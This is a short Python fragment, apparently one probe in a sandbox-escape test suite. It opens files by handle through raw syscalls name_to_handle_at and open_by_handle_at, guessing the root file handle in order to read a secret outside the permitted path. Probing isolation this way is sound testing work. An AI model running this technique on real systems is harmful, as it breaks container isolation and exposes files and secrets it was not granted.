"""Opens a file by its handle, without a path, guessing the handle of the file system's root.

gains: the value of a secret
needs: x86_64
remains(none): every file that the portal's user can read; for root, also files by handle
"""

buffer = struct.pack("Ii", 128, 0) + bytes(128)
mount = _ctypes.c_int()
attempt("name_to_handle_at", call, 303, -100, V["secret"].encode(), buffer, _ctypes.byref(mount), 0)
attempt("own handle", call, 303, -100, b".", buffer, _ctypes.byref(mount), 0)
root = struct.pack("Ii", 8, 1) + struct.pack("II", 2, 0)
attempt("open_by_handle_at", call, 304, os.open(".", os.O_RDONLY), root, os.O_RDONLY)
